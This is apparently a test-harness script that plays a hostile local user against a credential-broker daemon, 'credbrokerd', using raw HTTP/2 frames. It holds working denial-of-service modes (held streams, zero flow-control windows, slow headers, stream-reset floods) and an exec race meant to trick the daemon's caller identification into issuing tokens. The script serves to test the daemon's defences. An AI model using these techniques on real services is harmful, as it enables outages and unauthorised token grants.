"""A hostile local user: raw Unix sockets and hand-made HTTP/2 frames against credbrokerd.

Run as the attacking uid. Each mode prints one line of JSON with what it managed, then (for the modes that hold
connections) waits for a line on stdin before letting go, so the test can check the daemon meanwhile.

usage: attacker.py SOCKET MODE [ARGS...]
  streams N       N connections; on each, as many streams as it will take, every one an unfinished gRPC message
                  of the largest size allowed (as much of the body as flow control lets through, never the end)
  idle N          N connections that send nothing
  preface N       N connections that send the HTTP/2 preface and nothing else
  attempts N      N connections opened one after another, each kept while the daemon keeps it
  attempts-for S  the same, for S seconds (reports at once, then attacks until then; for benchmarks)
  exec-swap PROG  connect and complete the HTTP/2 preface; fork a child that waits until this process has
                  exec'd PROG, then asks for a token over the inherited connection and prints "granted" or
                  "refused"; this process execs PROG (with no arguments but a short sleep for /bin/sleep)
  exec-race PROG PRIOR
                  the race against the daemon's look at the executable: PRIOR connections queued first (held,
                  silent), then a process connects and at once execs PROG ("PROG 30"), while a child it forked
                  before connecting waits until PROG runs and then asks for a token over the shared connection.
                  Prints {"queued": true} once PROG runs, then {"result": "granted" or "refused"}
  exec-races PROG N PRIOR
                  N such races one after another; prints how many were won
  call            (positive control of exec-swap) the same call, made by a forked child of the process that
                  connected, which execs nothing
  call-then-idle  one call on a fresh connection, then wait: prints how many seconds until the daemon closed it
  slow-head       an HTTP/1.1 request head that never ends: prints how many seconds until the daemon closed it
  replies N M W   N connections that never read; on each, 16 server-reflection streams (v1), each asking M times
                  for the file that holds the admin service (about 13 KB an answer). W is the flow-control window
                  given to the daemon: "zero" (SETTINGS_INITIAL_WINDOW_SIZE 0) or "open" (the largest window, for
                  each stream and the connection): either way the answers can only wait in the daemon
  drop-streams N  N rounds, each method of the socket in turn (every gRPC method, the HTTP API over HTTP/2):
                  a connection with no flow-control window for the daemon and 16 calls, then RST_STREAM on each
                  (or, every other time round, the connection closed) while the answers are pending
  unary METHOD BODY SECONDS CONN
                  as many unary calls of gRPC METHOD (a path) as the daemon answers in SECONDS, 16 at a time on
                  a connection; BODY is "empty" (an empty message), "scope:S" (GetToken for S) or "varying:P"
                  (GetToken for a new scope P<n> each call); CONN is "reuse" (one connection) or "reconnect" (a
                  new connection for every call). Prints how many calls were answered
  uids FIRST N K  (as root) for each of the N uids from FIRST, a process of that uid making K GetToken calls
                  for $SCOPE on one connection, one uid after another, as a user with a subordinate uid range
                  could
The token calls ask for the scope in $SCOPE (default scim:read).
"""
import json
import os
import select
import socket
import struct
import sys
import time

from h2frames import (DATA, END_HEADERS, END_STREAM, GET_TOKEN, GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS, Reader,
                      connect, frame, get_token_message, grpc_headers, literal, send)

MAX_MESSAGE = 20 * 1024
DEADLINE = time.monotonic() + 60


def headers(path):
    return b"".join(literal(n, v) for n, v in grpc_headers(path))


def served(s):
    """Whether the daemon serves the connection: it answers a preface with its SETTINGS, and closes at once a
    connection over a limit (or sends GOAWAY to one that broke the protocol). Waits (boundedly) for an answer."""
    try:
        r, _, _ = select.select([s], [], [], 10)
        if not r:
            return False
        s.setblocking(False)
        buf = b""
        while True:
            try:
                chunk = s.recv(65536)
            except BlockingIOError:
                break
            if not chunk:
                return False
            buf += chunk
        s.setblocking(True)
        while len(buf) >= 9:
            if buf[3] == 7:  # GOAWAY
                return False
            buf = buf[9 + int.from_bytes(buf[:3], "big"):]
        return True
    except OSError:
        return False


def hold(conns, report):
    report["held"] = sum(1 for c in conns if served(c))
    print(json.dumps(report), flush=True)
    sys.stdin.readline()


def streams(path, n):
    """Stays within the protocol, as an attacker who wants to keep what it holds would: 16 streams (the most
    the daemon allows on a connection) and, on each, the start of a message that declares the largest size
    allowed, within the connection's 64 KiB flow-control window."""
    conns, streams_sent = [], 0
    unfinished = b"\x00" + struct.pack(">I", MAX_MESSAGE) + b"s" * 3000
    for _ in range(n):
        try:
            s = connect(path)
        except OSError:
            continue
        ok = send(s, PREFACE + frame(SETTINGS, 0, 0, b""))
        for i in range(16):
            if not ok:
                break
            sid = 1 + 2 * i
            ok = send(s, frame(HEADERS, END_HEADERS, sid, headers(GET_TOKEN)) + frame(DATA, 0, sid, unfinished))
            if ok:
                streams_sent += 1
        conns.append(s)
    hold(conns, {"connections": len(conns), "streams": streams_sent})


def idle(path, n, preface):
    conns = []
    for _ in range(n):
        try:
            s = connect(path)
            if preface:
                send(s, PREFACE)
            conns.append(s)
        except OSError:
            pass
    hold(conns, {"connections": len(conns)})


def attempt_batch(path, n):
    """n connections, each with the HTTP/2 preface; those the daemon serves (it closes the rest at once)."""
    pending = []
    for _ in range(n):
        try:
            s = connect(path)
            send(s, PREFACE)
            pending.append(s)
        except OSError:
            pass
    return [c for c in pending if served(c) or c.close()], len(pending)


def attempts(path, n):
    held, made = [], 0
    while made < n:
        kept, tried = attempt_batch(path, min(256, n - made))
        held += kept
        made += max(tried, 1)
    print(json.dumps({"attempts": made, "held": len(held)}), flush=True)
    sys.stdin.readline()


def attempts_for(path, seconds):
    print(json.dumps({"started": True}), flush=True)
    end = time.monotonic() + seconds
    held = []
    while time.monotonic() < end:
        held += attempt_batch(path, 256)[0]
    sys.stdin.readline()


def call_on(s):
    s.settimeout(20)
    scope = os.environ.get("SCOPE", "scim:read").encode()
    send(s, frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, headers(GET_TOKEN))
         + frame(DATA, END_STREAM, 1, get_token_message(scope)))
    return Reader(s, deadline=20).call_result(1)


REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
SETTINGS_INITIAL_WINDOW_SIZE = 4


def reflection_request(symbol=b"credbroker.admin.v1.Admin"):
    """A gRPC message holding ServerReflectionRequest { file_containing_symbol: symbol }."""
    body = b"\x22" + bytes([len(symbol)]) + symbol
    return b"\x00" + struct.pack(">I", len(body)) + body


def replies(path, n, m, window):
    conns, streams_sent = [], 0
    if window == "zero":
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0))
    else:
        largest = (1 << 31) - 1
        settings = (frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, largest))
                    + frame(8, 0, 0, struct.pack(">I", largest - 65535)))
    for _ in range(n):
        try:
            s = connect(path)
        except OSError:
            continue
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        ok = send(s, PREFACE + settings)
        for i in range(16):
            if not ok:
                break
            sid = 1 + 2 * i
            ok = send(s, frame(HEADERS, END_HEADERS, sid, headers(REFLECTION))
                      + frame(DATA, 0, sid, reflection_request() * m))
            if ok:
                streams_sent += 1
        conns.append(s)
    # The daemon has read the requests once its own SETTINGS (and its acknowledgement of ours) came back; give
    # it the chance to answer into its buffers before reporting.
    time.sleep(1)
    print(json.dumps({"connections": len(conns), "streams": streams_sent}), flush=True)
    sys.stdin.readline()


# Every method on the socket, with a request for it: (path, message, whether the request ends there).
EMPTY = b"\x00\x00\x00\x00\x00"
METHODS = [
    (GET_TOKEN, get_token_message(b"scim:read"), True),
    (b"/credbroker.v1.TokenBroker/WhoAmI", EMPTY, True),
    (b"/grpc.health.v1.Health/Check", EMPTY, True),
    (b"/grpc.health.v1.Health/Watch", EMPTY, True),
    (REFLECTION, reflection_request() * 4, False),
    (b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", reflection_request() * 4, False),
    (b"/credbroker.admin.v1.Admin/Status", EMPTY, True),
    (b"/credbroker.admin.v1.Admin/Explain", EMPTY, True),
    (b"/credbroker.admin.v1.Admin/Flush", EMPTY, True),
    (b"/credbroker.admin.v1.Admin/Reload", EMPTY, True),
    (b"/v1/whoami", None, True),
    (b"/v1/token?scope=scim:read", None, True),
]


def request_frames(sid, method):
    path, message, ends = method
    if message is None:  # the HTTP API, over HTTP/2
        fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
                  (b"credbroker-request", b"true")]
        return frame(HEADERS, END_HEADERS | END_STREAM, sid, b"".join(literal(n, v) for n, v in fields))
    return frame(HEADERS, END_HEADERS, sid, headers(path)) + frame(DATA, END_STREAM if ends else 0, sid, message)


def drop_streams(path, rounds):
    """Every method in turn: 16 calls on a connection that gives the daemon no flow-control window, then each
    stream reset (or, every other round, the connection closed) while the answers are pending."""
    dropped = 0
    for r in range(rounds):
        method = METHODS[r % len(METHODS)]
        try:
            s = connect(path)
        except OSError:
            continue
        send(s, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)))
        for i in range(16):
            send(s, request_frames(1 + 2 * i, method))
        # Let the daemon start answering, then go away with the answers pending.
        select.select([s], [], [], 0.05)
        if (r // len(METHODS)) % 2:
            for i in range(16):
                send(s, frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 8)))
        s.close()
        dropped += 16
    print(json.dumps({"dropped": dropped}), flush=True)


def unary_message(body, n):
    if body == "empty":
        return b"\x00\x00\x00\x00\x00"
    kind, _, value = body.partition(":")
    scope = value.encode() if kind == "scope" else f"{value}{n}".encode()
    return get_token_message(scope)


def unary_calls(s, method, body, count, first):
    """`count` calls on connection `s`, at most 16 at a time; how many were answered."""
    reader, answered, sent, open_streams = Reader(s, deadline=20), 0, 0, set()
    while answered < count:
        while sent < count and len(open_streams) < 16:
            sid = 1 + 2 * (sent % (1 << 29))
            if not send(s, frame(HEADERS, END_HEADERS, sid, headers(method))
                        + frame(DATA, END_STREAM, sid, unary_message(body, first + sent))):
                return answered
            open_streams.add(sid)
            sent += 1
        f = reader.next()
        if f is None:
            return answered
        kind, flags, sid, _ = f
        if kind == GOAWAY:
            return answered
        if sid in open_streams and (kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)):
            open_streams.discard(sid)
            answered += 1
    return answered


def unary(path, method, body, seconds, conn):
    end, answered = time.monotonic() + seconds, 0
    s = None
    while time.monotonic() < end:
        if s is None:
            try:
                s = connect(path)
            except OSError:
                continue
            send(s, PREFACE + frame(SETTINGS, 0, 0, b""))
        per_connection = 1 if conn == "reconnect" else 256
        done = unary_calls(s, method.encode(), body, per_connection, answered)
        answered += done
        if conn == "reconnect" or done < per_connection:
            s.close()
            s = None
    print(json.dumps({"answered": answered}), flush=True)


def uids(path, first, n, k):
    answered = 0
    for uid in range(first, first + n):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            got = 0
            try:
                s = connect(path)
                send(s, PREFACE + frame(SETTINGS, 0, 0, b""))
                got = unary_calls(s, GET_TOKEN, "scope:" + os.environ.get("SCOPE", "scim:read"), k, 0)
            except OSError:
                pass
            os.write(w, str(got).encode())
            os._exit(0)
        os.close(w)
        answered += int(os.read(r, 32) or b"0")
        os.close(r)
        os.waitpid(pid, 0)
    print(json.dumps({"answered": answered}), flush=True)


def exec_swap(path, prog):
    s = connect(path)
    send(s, PREFACE)
    # The daemon answers the preface with its SETTINGS only once the connection is accepted and identified.
    select.select([s], [], [], 10)
    os.set_inheritable(s.fileno(), True)
    parent = os.getpid()
    if os.fork() == 0:
        want = os.path.realpath(prog)
        while os.readlink(f"/proc/{parent}/exe") != want and time.monotonic() < DEADLINE:
            time.sleep(0.01)
        print(json.dumps({"result": call_on(s)}), flush=True)
        os._exit(0)
    os.execv(prog, [prog, "30"])


def race_once(path, prog, prior, queued):
    held = []
    for _ in range(prior):
        try:
            held.append(connect(path))
        except OSError:
            pass
    r, w = os.pipe()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    racer = os.fork()
    if racer == 0:
        os.close(r)
        if os.fork() == 0:
            # The caller: shares the socket, which its parent is about to connect.
            want, parent = os.path.realpath(prog), os.getppid()
            while time.monotonic() < DEADLINE:
                try:
                    if os.readlink(f"/proc/{parent}/exe") == want:
                        break
                except OSError:
                    pass
                time.sleep(0.0002)
            os.write(w, b"Q")
            send(s, PREFACE)
            try:
                result = call_on(s)
            except OSError:
                result = "reset"
            os.write(w, result.encode())
            os._exit(0)
        s.connect(path)
        os.execv(prog, [prog, "30"])
    os.close(w)
    s.close()
    os.read(r, 1)
    queued()
    result = b""
    while True:
        chunk = os.read(r, 64)
        if not chunk:
            break
        result += chunk
    os.close(r)
    os.kill(racer, 9)
    os.waitpid(racer, 0)
    for c in held:
        c.close()
    return result.decode()


def exec_race(path, prog, prior):
    result = race_once(path, prog, prior, lambda: print(json.dumps({"queued": True}), flush=True))
    print(json.dumps({"result": result}), flush=True)


def exec_races(path, prog, n, prior):
    won = sum(race_once(path, prog, prior, lambda: None) == "granted" for _ in range(n))
    print(json.dumps({"attempts": n, "won": won}), flush=True)


def call(path):
    s = connect(path)
    send(s, PREFACE)
    select.select([s], [], [], 10)
    pid = os.fork()
    if pid == 0:
        print(json.dumps({"result": call_on(s)}), flush=True)
        os._exit(0)
    os.waitpid(pid, 0)


def call_then_idle(path):
    s = connect(path)
    send(s, PREFACE)
    result = call_on(s)
    start = time.monotonic()
    s.settimeout(30)
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass
    print(json.dumps({"result": result, "closed_after": time.monotonic() - start}), flush=True)


def slow_head(path):
    s = connect(path)
    send(s, b"GET /v1/whoami HTTP/1.1\r\nHost: x\r\nCredbroker-Request: true\r\n")
    start = time.monotonic()
    s.settimeout(60)
    answer = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            answer += chunk
    except OSError:
        pass
    print(json.dumps({"closed_after": time.monotonic() - start, "answer": answer[:12].decode("latin-1")}),
          flush=True)


def main():
    path, mode, args = sys.argv[1], sys.argv[2], sys.argv[3:]
    if mode == "streams":
        streams(path, int(args[0]))
    elif mode == "idle":
        idle(path, int(args[0]), False)
    elif mode == "preface":
        idle(path, int(args[0]), True)
    elif mode == "attempts":
        attempts(path, int(args[0]))
    elif mode == "attempts-for":
        attempts_for(path, float(args[0]))
    elif mode == "exec-swap":
        exec_swap(path, args[0])
    elif mode == "exec-race":
        exec_race(path, args[0], int(args[1]))
    elif mode == "exec-races":
        exec_races(path, args[0], int(args[1]), int(args[2]))
    elif mode == "call":
        call(path)
    elif mode == "call-then-idle":
        call_then_idle(path)
    elif mode == "slow-head":
        slow_head(path)
    elif mode == "replies":
        replies(path, int(args[0]), int(args[1]), args[2])
    elif mode == "unary":
        unary(path, args[0], args[1], float(args[2]), args[3])
    elif mode == "uids":
        uids(path, int(args[0]), int(args[1]), int(args[2]))
    elif mode == "drop-streams":
        drop_streams(path, int(args[0]))
    else:
        sys.exit(f"unknown mode {mode}")


main()
